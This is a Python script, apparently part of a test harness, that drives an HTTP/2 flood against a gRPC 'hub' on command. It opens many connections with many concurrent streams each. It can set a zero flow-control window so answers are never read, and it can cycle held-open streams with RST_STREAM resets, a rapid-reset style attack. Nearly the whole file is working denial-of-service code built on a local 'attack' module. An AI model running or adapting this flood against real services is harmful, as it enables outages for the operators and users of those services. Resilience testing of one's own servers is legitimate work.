#!/usr/bin/python3
"""Somebody who calls a hub without an end, as a process of its own that knows HTTP/2 and no gRPC:
the flood is to cost the hub, and not the machine. Obeys lines: `on JSON`, `off`, `end`, and answers
each with what has come of the flood so far. `on` says

  port, token             whom to call, and as whom
  path, messages          the method, and what is asked, in turn (base64)
  connections, under_way  so many calls at once on each of so many connections
  reads                   false: no answer is ever taken
  streams                 true: calls are left open, and the oldest is taken back for a new one
"""

import base64
import json
import os
import pathlib
import select
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))

import attack  # noqa: E402
from attack import DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, SETTINGS, frame  # noqa: E402

WINDOW_UPDATE = 8
LARGEST = (1 << 31) - 1
LARGEST_FRAME = (1 << 24) - 1
BURST = 20
GIVE_BACK = 1 << 20  # of the window, at a time
PAUSE_S = 0.05  # before somebody who was hung up on comes again


class Frames:
    """Counts the streams that end, and the bytes; keeps no payload but what has to be answered."""

    def __init__(self):
        self.bytes = 0
        self._head = b""
        self._left = 0
        self._kept = None

    def take(self, data):
        """(how many streams ended, frames that want an answer)"""
        self.bytes += len(data)
        ended, asked, at = 0, [], 0
        while at < len(data):
            if self._left:
                piece = data[at:at + self._left]
                at += len(piece)
                self._left -= len(piece)
                if self._kept is not None:
                    self._kept[1] += piece
                    if not self._left:
                        asked.append(tuple(self._kept))
                continue
            wanted = 9 - len(self._head)
            self._head += data[at:at + wanted]
            at += wanted
            if len(self._head) < 9:
                break
            kind, flags = self._head[3], self._head[4]
            self._left = int.from_bytes(self._head[:3], "big")
            self._kept = [kind, b""] if kind in (SETTINGS, attack.PING) and not flags & 1 else None
            if self._kept and not self._left:
                asked.append(tuple(self._kept))
            ended += (kind in (HEADERS, DATA) and bool(flags & END_STREAM)) or kind == RST_STREAM
            self._head = b""
        return ended, asked


class Caller(threading.Thread):
    """One connection after the other, each with calls under way until it is stopped."""

    def __init__(self, flood):
        super().__init__(daemon=True)
        self.flood = flood
        self.calls = self.answers = self.bytes = self.broken = 0
        self._headers = attack.headers(flood["path"], "http",
                                       [("authorization", f"Bearer {flood['token']}")])
        self._messages = [attack.message(base64.b64decode(m)) for m in flood["messages"]]

    def run(self):
        while not self.flood["stopped"].is_set():
            try:
                with attack.Peer(self.flood["port"], timeout_s=5) as peer:
                    self._call(peer)
            except OSError:
                pass
            if not self.flood["stopped"].is_set():
                self.broken += 1
                time.sleep(PAUSE_S)

    def _call(self, peer):
        windows = struct.pack(">HIHI", 4, LARGEST if self.flood["reads"] else 0, 5, LARGEST_FRAME)
        peer.send(frame(SETTINGS, 0, 0, windows) +
                  frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65535)))
        frames, stream, under_way, given = Frames(), 1, 0, 0
        while not self.flood["stopped"].is_set() and not peer.broken:
            room = self.flood["under_way"] - under_way
            if self.flood["streams"] and room <= 0:
                # Whoever is hung up on for it comes again.
                peer.send(frame(RST_STREAM, 0, stream - 2 * self.flood["under_way"],
                                struct.pack(">I", 8)))
                room = 1
            while room > 0:
                count = min(room, BURST)
                if not peer.send(b"".join(self._one(stream + 2 * i) for i in range(count))):
                    break
                stream += 2 * count
                self.calls += count
                under_way += count
                room -= count
            under_way = min(under_way, self.flood["under_way"])
            if not select.select([peer.socket], [], [], 0.01 if self.flood["streams"] else 0.1)[0]:
                continue
            data = peer.socket.recv(1 << 20)
            if not data:
                break
            ended, asked = frames.take(data)
            under_way = max(0, under_way - ended)
            self.answers += ended
            self.bytes += len(data)
            self._answer(peer, asked)
            if frames.bytes - given >= GIVE_BACK:
                peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", frames.bytes - given)))
                given = frames.bytes

    def _one(self, stream):
        begun = frame(HEADERS, END_HEADERS, stream, self._headers)
        if self.flood["streams"]:
            return begun
        message = self._messages[(stream // 2) % len(self._messages)]
        pieces = [message[at:at + 16384] for at in range(0, len(message), 16384)]
        last = len(pieces) - 1
        return begun + b"".join(frame(DATA, END_STREAM if n == last else 0, stream, piece)
                                for n, piece in enumerate(pieces))

    @staticmethod
    def _answer(peer, asked):
        for kind, payload in asked:
            peer.send(frame(kind, 1, 0, b"" if kind == SETTINGS else payload))


def main():
    os.nice(19)
    callers, flood = [], None
    for line in sys.stdin:
        what, _, more = line.strip().partition(" ")
        if flood is not None:
            flood["stopped"].set()
            for caller in callers:
                caller.join()
        told = {name: sum(getattr(c, name) for c in callers)
                for name in ("calls", "answers", "bytes", "broken")}
        if what == "end":
            return
        callers, flood = [], None
        if what == "on":
            flood = {"reads": True, "streams": False, **json.loads(more),
                     "stopped": threading.Event()}
            callers = [Caller(flood) for _ in range(flood["connections"])]
            for caller in callers:
                caller.start()
        print(json.dumps(told), flush=True)


if __name__ == "__main__":
    main()
